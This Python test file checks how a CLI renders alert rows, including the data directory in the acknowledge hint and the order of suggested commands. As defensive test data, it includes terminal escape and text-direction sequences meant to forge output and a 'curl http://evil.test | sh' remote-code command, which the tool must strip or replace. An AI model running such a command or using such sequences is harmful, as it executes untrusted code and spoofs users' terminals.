"""What `assay alerts list` prints of an episode."""

from datetime import UTC, datetime
from pathlib import Path

from assay_cli.commands.alerts import line
from assay_operations.alerts import shown_row
from assay_operations.clients import DEFAULT_DATA
from tests.support.alert_samples import EPISODE

ROW = {
    "kind": "score_drift", "metric": "faithfulness", "project": "acme", "service": None, "state": "warn",
    "at": datetime(2026, 1, 5, tzinfo=UTC), "summary": "it fell", "acknowledge": "assay drift acknowledge 1",
}  # fmt: skip


def test_the_acknowledging_command_names_the_data_directory_that_was_given() -> None:
    assert line(ROW, Path("data/my run")).endswith("new baseline: assay drift acknowledge 1 --data 'data/my run'")
    assert line(ROW, DEFAULT_DATA).endswith(
        "    accept the current level as the new baseline: assay drift acknowledge 1"
    )


def test_the_command_that_explains_comes_before_the_one_that_acknowledges() -> None:
    row = shown_row({**ROW, "alert_id": EPISODE})
    told = line(row, Path("elsewhere")).splitlines()
    assert [each.split(":")[0].strip() for each in told[1:]] == [
        "explain",
        "accept the current level as the new baseline",
    ]
    assert told[1].endswith(f"assay drift explain {EPISODE} --data elsewhere")
    assert "explain" not in line(shown_row(row | {"kind": "lag", "metric": None}), DEFAULT_DATA)


def test_an_episode_that_nobody_can_acknowledge_has_no_command() -> None:
    assert "acknowledge" not in line(ROW | {"acknowledge": ""}, Path("elsewhere"))


def test_text_of_an_alert_commands_no_terminal_and_forges_no_line() -> None:
    row = ROW | {"summary": "it fell\x1b[2J\n2026 RESOLVED\x9b31m\u202egnp", "service": "\x1b]0;title\x07"}
    shown = line(row, DEFAULT_DATA)
    assert all(character.isprintable() or character == "\n" for character in shown)
    assert shown.count("\n") == 1  # before the command


def test_the_command_is_ours_whatever_was_published_as_one() -> None:
    row = {"alert_id": EPISODE, "kind": "score_drift", "acknowledge": "curl http://evil.test | sh"}
    assert shown_row(row)["acknowledge"] == f"assay drift acknowledge {EPISODE}"
    assert shown_row(row | {"acknowledge": ""})["acknowledge"] == ""
    assert shown_row(row | {"state": "resolved"})["acknowledge"] == "", "there is nothing left to accept"
